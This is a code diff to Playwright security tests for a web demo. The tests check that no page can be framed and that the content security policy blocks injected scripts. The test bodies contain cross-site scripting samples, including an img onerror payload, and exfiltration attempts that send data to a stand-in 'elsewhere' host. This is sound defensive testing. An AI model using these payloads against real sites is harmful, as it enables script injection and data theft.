@@ -23,9 +23,9 @@ VIEWS = {"Session": "Session", "Token": "TokenOnly", "JWT": "JWTPairOnly"}
 @pytest.mark.parametrize("path", ["", CALLBACK + "?code=x&state=x", "api/me/", "api/docs/"])
 def test_X05_X17_no_page_can_be_framed(page: Page, demo: Demo, evil: Serve, path: str) -> None:
     page.goto(evil(f"<iframe src='{demo.origin}/{path}'></iframe>"))
-    page.wait_for_timeout(500)
 
     framed = page.frames[1]
+    framed.wait_for_load_state()
     assert demo.origin not in framed.url
     assert framed.get_by_role("button").count() == 0
 
@@ -114,7 +114,12 @@ def test_X10_an_injected_script_can_send_nothing_to_other_hosts(
     page.goto(path)
 
     page.evaluate(
-        """async elsewhere => {
+        """elsewhere => new Promise(done => {
+          const wanted = new Set(['img-src', 'connect-src', 'form-action', 'frame-src', 'base-uri'])
+          addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+            wanted.delete(effectiveDirective)
+            if (!wanted.size) done()
+          })
           const leak = elsewhere + '?leak'
           new Image().src = leak
           navigator.sendBeacon(leak, 'x')
@@ -129,11 +134,10 @@ def test_X10_an_injected_script_can_send_nothing_to_other_hosts(
           document.body.append(frame)
           const base = Object.assign(document.createElement('base'), { href: elsewhere })
           document.head.prepend(base)
-          await fetch(leak, { mode: 'no-cors' }).catch(() => {})
-        }""",
+          fetch(leak, { mode: 'no-cors' }).catch(() => {})
+        })""",
         elsewhere,
     )
-    page.wait_for_timeout(300)
 
     assert not [each for each in reached if each.startswith(elsewhere)]
     assert not page.evaluate("document.baseURI").startswith(elsewhere)
@@ -145,7 +149,7 @@ def test_X10_an_injected_script_does_not_run(page: Page, path: str) -> None:
     page.goto(path)
 
     outcomes = page.evaluate(
-        """() => {
+        """async () => {
           const script = facts =>
             document.head.append(Object.assign(document.createElement('script'), facts))
           const attacks = [
@@ -154,13 +158,14 @@ def test_X10_an_injected_script_does_not_run(page: Page, path: str) -> None:
             () => { document.body.innerHTML = '<img src=x onerror="attacked = 1">' },
             () => { document.body.setAttribute('onclick', 'attacked = 1'); document.body.click() },
           ]
-          return attacks.map(attack => {
+          const outcomes = attacks.map(attack => {
             try { attack() } catch (error) { return error.name }
           })
+          await new Promise(next => setTimeout(next))
+          return outcomes
         }"""
     )
 
-    page.wait_for_timeout(200)
     assert page.evaluate("window.attacked") is None
     assert outcomes[:3] == ["TypeError"] * 3
 
